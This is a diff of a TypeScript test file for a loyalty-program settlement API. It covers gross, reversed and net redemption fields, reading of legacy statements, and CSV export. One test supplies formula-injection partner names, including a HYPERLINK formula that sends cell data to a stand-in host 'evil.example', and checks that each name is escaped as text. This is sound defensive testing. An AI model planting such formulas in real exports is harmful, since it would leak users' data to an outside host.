@@ -1,6 +1,7 @@
 // Coalition settlement: terms, the statement (per partner, matrix, breakage), closing, partner views.
 import { env } from "cloudflare:workers";
 import { describe, expect, it } from "vitest";
+import { csvLine } from "../src/lib/csv";
 import { buildStatement } from "../src/settlement/statement";
 import { nextPeriod, periodOf, settlementPeriodFor } from "../src/ledger/periods";
 import { accrue, call, createProgram, enroll, expectLedgerConsistent, redeem, type TestProgram } from "./helpers";
@@ -57,14 +58,15 @@ describe("settlement statement", () => {
 
     const now = (await call(`/v1/settlements/${NOW_PERIOD}`, { key: p.admin })).json;
     expect(now.status).toBe("open");
-    expect(line(now, b.id).redeemedAt).toEqual({ points: 1200, reversedPoints: 0, value: { amount: 1140, currency: "EUR" } });
-    expect(line(now, a.id).redeemedAt).toEqual({ points: 0, reversedPoints: 100, value: { amount: 0, currency: "EUR" } });
+    expect(line(now, b.id).redeemedAt).toEqual({ grossPoints: 1200, reversedPoints: 0, netPoints: 1200, value: { amount: 1140, currency: "EUR" } });
+    // Gross, reversed and net are named apart on the line and in the matrix alike; the money is on the net.
+    expect(line(now, a.id).redeemedAt).toEqual({ grossPoints: 100, reversedPoints: 100, netPoints: 0, value: { amount: 0, currency: "EUR" } });
     expect(line(now, b.id).net).toEqual({ amount: -1140, currency: "EUR" });
     expect(now.matrix).toEqual(
       expect.arrayContaining([
-        { issuer: a.id, redeemer: b.id, redeemed: 1000, reversed: 0 },
-        { issuer: b.id, redeemer: b.id, redeemed: 200, reversed: 0 },
-        { issuer: b.id, redeemer: a.id, redeemed: 100, reversed: 100 },
+        { issuer: a.id, redeemer: b.id, grossPoints: 1000, reversedPoints: 0, netPoints: 1000 },
+        { issuer: b.id, redeemer: b.id, grossPoints: 200, reversedPoints: 0, netPoints: 200 },
+        { issuer: b.id, redeemer: a.id, grossPoints: 100, reversedPoints: 100, netPoints: 0 },
       ]),
     );
     expect(now.reconciliation.every((r: { ok: boolean }) => r.ok)).toBe(true);
@@ -100,6 +102,32 @@ describe("settlement statement", () => {
     expect(res.status).toBe(500);
     expect(res.json.code).toBe("settlement_unreconciled");
     expect(res.json.reconciliation[0]).toMatchObject({ issuer: a.id, fromFlows: 100, inLots: 99, ok: false });
+  });
+});
+
+describe("gross, reversed and net redemptions", () => {
+  it("are named apart in the document's schema", async () => {
+    const doc = (await call("/openapi.json")).json;
+    const statement = doc.components.schemas.SettlementStatement;
+    const cell = statement.properties.matrix.items.properties;
+    expect(Object.keys(cell).sort()).toEqual(["grossPoints", "issuer", "netPoints", "redeemer", "reversedPoints"]);
+    const redeemedAt = statement.properties.partners.items.properties.redeemedAt.properties;
+    expect(Object.keys(redeemedAt).sort()).toEqual(["grossPoints", "netPoints", "reversedPoints", "value"]);
+  });
+
+  it("reads a statement frozen before they were named apart in today's names", async () => {
+    const { p, a } = await coalition();
+    const old = {
+      period: "2020-01", currency: "EUR", rounding: "x", breakage: [], reconciliation: [],
+      partners: [{ partnerId: a.id, name: "A", terms: null, issued: { points: 0, value: { amount: 0, currency: "EUR" } }, clawedBack: { points: 0, value: { amount: 0, currency: "EUR" } }, redeemedAt: { points: 70, reversedPoints: 30, value: { amount: 70, currency: "EUR" } }, expired: 0, net: { amount: -70, currency: "EUR" } }],
+      matrix: [{ issuer: null, redeemer: a.id, redeemed: 100, reversed: 30 }],
+    };
+    await env.DB.prepare("INSERT INTO settlement_periods (program_id, period, closed_at, statement) VALUES (?, '2020-01', '2020-02-01T00:00:00.000Z', ?)")
+      .bind(p.programId, JSON.stringify(old))
+      .run();
+    const s = (await call("/v1/settlements/2020-01", { key: p.admin })).json;
+    expect(s.partners[0].redeemedAt).toEqual({ grossPoints: 100, reversedPoints: 30, netPoints: 70, value: { amount: 70, currency: "EUR" } });
+    expect(s.matrix).toEqual([{ issuer: null, redeemer: a.id, grossPoints: 100, reversedPoints: 30, netPoints: 70 }]);
   });
 });
 
@@ -174,9 +202,12 @@ describe("what a partner sees", () => {
     const csv = await call(`/v1/settlements/${NOW_PERIOD}`, { key: b.key, headers: { accept: "text/csv" } });
     expect(csv.headers.get("content-type")).toContain("text/csv");
     const rows = (csv.json as string).trim().split("\r\n");
-    expect(rows[0]).toBe("section,partner_id,name,issued_points,issued_value,clawed_back_points,clawed_back_value,redeemed_points,reversed_points,redeemed_value,expired_points,net_amount,currency");
-    expect(rows[1]).toBe(`partner,${b.id},Brand B,1000,900,0,0,1500,0,1425,0,-525,EUR`);
-    expect(rows).toContain(`matrix,${a.id},${b.id},1000,0`);
+    expect(rows[0]).toBe(
+      "section,partner_id,name,issued_points,issued_value,clawed_back_points,clawed_back_value,redeemed_gross_points,redeemed_reversed_points,redeemed_net_points,redeemed_net_value,expired_points,net_amount,currency",
+    );
+    expect(rows[1]).toBe(`partner,${b.id},Brand B,1000,900,0,0,1500,0,1500,1425,0,-525,EUR`);
+    expect(rows).toContain("section,issuer,redeemer,redeemed_gross_points,redeemed_reversed_points,redeemed_net_points");
+    expect(rows).toContain(`matrix,${a.id},${b.id},1000,0,1000`);
   });
 
   it("lists only its own transactions, by period", async () => {
@@ -192,6 +223,49 @@ describe("what a partner sees", () => {
     expect((await call(`/v1/partners/${a.id}/terms`, { key: a.key })).json.data[0].validFrom).toBe(LAST_PERIOD);
   });
 });
+
+describe("the CSV statement", () => {
+  it("writes names that look like formulas as text, not formulas", async () => {
+    const p = await createProgram({ expiry: { policy: "never" } });
+    const names = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned", "Plain, with comma"];
+    for (const name of names) expect((await call("/v1/partners", { key: p.admin, body: { name } })).status).toBe(201);
+    const csv = await call(`/v1/settlements/${NOW_PERIOD}`, { key: p.admin, headers: { accept: "text/csv" } });
+    expect(csv.status).toBe(200);
+    const text = csv.json as string;
+    const nameCells = parseCsv(text)
+      .filter((row) => row[0] === "partner" && row[1] !== "program")
+      .map((row) => row[2]!);
+    expect(nameCells.sort()).toEqual(
+      ["'=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Open\")", "'+1+1", "'-2+3", "'@SUM(A1:A9)", "'\tTabbed", "'\rReturned", "Plain, with comma", "Partner brand"].sort(),
+    );
+    // Numbers stay numbers, negative ones too.
+    expect(parseCsv(text).every((row) => row.every((cell) => !/^[=+@\t\r]/.test(cell)))).toBe(true);
+  });
+
+  it("keeps a negative amount a number", () => {
+    expect(csvLine(["partner", -525, 0, "-x"])).toBe("partner,-525,0,'-x");
+  });
+});
+
+/** Just enough CSV parsing for the tests: quoted fields, doubled quotes, CRLF rows. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = "";
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i]!;
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      else if (ch === '"') quoted = false;
+      else cell += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ",") row.push(cell), (cell = "");
+    else if (ch === "\r" && text[i + 1] === "\n") row.push(cell), rows.push(row), (row = []), (cell = ""), i++;
+    else cell += ch;
+  }
+  return rows;
+}
 
 describe("reconciliation after random ledgers", () => {
   it.each([1, 2, 3, 4, 5])("reconciles for every partner (seed %i)", async (seed) => {
@@ -242,7 +316,7 @@ describe("statement arithmetic", () => {
       currency: "EUR",
       partners: [{ id: "x", name: "X", terms: { validFrom: "2026-01", issuePrice: { amount: 1, perPoints: 3 }, redeemPrice: { amount: 2, perPoints: 3 } } }],
       flows: [{ issuer: "x", issued: 10, debtPaid: 0, expired: 0, clawedFromLot: 1, clawedFromExpired: 0, clawedToDebt: 0 }],
-      cross: [{ issuer: "x", redeemer: "x", redeemed: 5, reversed: 1 }],
+      cross: [{ issuer: "x", redeemer: "x", grossPoints: 5, reversedPoints: 1 }],
       allTimeFlows: [],
       allTimeCross: [],
       outstandingInLots: [],
